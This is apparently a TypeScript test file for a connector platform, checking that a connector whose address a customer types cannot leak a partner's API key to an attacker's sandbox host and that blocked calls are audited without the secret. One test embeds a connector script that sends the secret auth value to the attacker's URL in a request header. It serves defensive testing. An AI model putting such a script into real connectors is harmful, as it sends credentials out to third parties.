import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { reader } from "@/db/client";
import { auditEntries } from "@/db/schema";
import { startSandboxProvider, type SandboxProvider } from "@/e2e/providers/sandbox";
import { connectorDefinitionSchema } from "@/lib/auth-methods/definition";
import { createTestWorld, type TestWorld } from "@/lib/demo/testing";
import { closeScripts } from "@/lib/scripts/pool";
import { callMethod } from "./call";

let world: TestWorld;
let attacker: SandboxProvider;
beforeAll(async () => {
  world = await createTestWorld();
  attacker = await startSandboxProvider({ port: 0 });
});
afterAll(async () => {
  await closeScripts();
  await attacker.close();
  await world.close();
});

describe("S-41 a host that a customer typed", () => {
  /** A connector whose address the customer types, with a key of the partner's, installed for the attacker's address. */
  async function typedHost(slug: string, more: { script?: string } = {}): Promise<number> {
    const { definition } = await world.connector("sandbox-crm-api-key");
    const [authMethod] = definition.authMethods;
    const open = connectorDefinitionSchema.parse({
      ...definition,
      ...more,
      slug,
      baseUrl: "{{url}}",
      parameters: [{ name: "url", title: "URL", level: "account", format: "uri" }],
      authMethods: [{ ...authMethod, parameters: [{ name: "apiKey", title: "API Key", secret: true }] }],
    });
    await world.define(open);
    await world.setUp(world.northwind, slug, { apiKey: "partner-key-that-stays-4711" });
    return world.install(world.northwind, slug, {
      name: slug,
      credential: {},
      properties: [{ kind: "set", name: "url", value: attacker.url, isSecret: false }],
    });
  }

  it("gets nothing of the partner's secret: no request is made, and it is audited without a value", async () => {
    const id = await typedHost("typed-host");
    const called = await callMethod(world.northwind.account, id, { methodId: "list-contacts", parameters: {}, fields: {} });
    expect(called).toMatchObject({ ok: false, error: { code: "egress.blocked" } });
    expect(attacker.control.log()).toEqual([]);
    const entry = (await reader().select().from(auditEntries)).find((each) => each.action === "connector.call_blocked");
    expect(entry).toMatchObject({ objectId: String(id), objectType: "connection" });
    expect(JSON.stringify(entry)).not.toContain("partner-key");
  });

  it("gets nothing of the partner's secret by a script of the connector either", async () => {
    const id = await typedHost("typed-host-script", {
      script: `function before_action() {
        http_request({ method: "GET", url: "${attacker.url}/api/contacts", headers: { "X-Api-Key": "k" + method_auth_value } });
        return true;
      }`,
    });
    attacker.control.clearLog();
    const called = await callMethod(world.northwind.account, id, { methodId: "list-contacts", parameters: {}, fields: {} });
    expect(called).toMatchObject({ ok: false, error: { code: "egress.blocked" } });
    expect(JSON.stringify(attacker.control.log())).not.toContain("partner-key");
  });
});
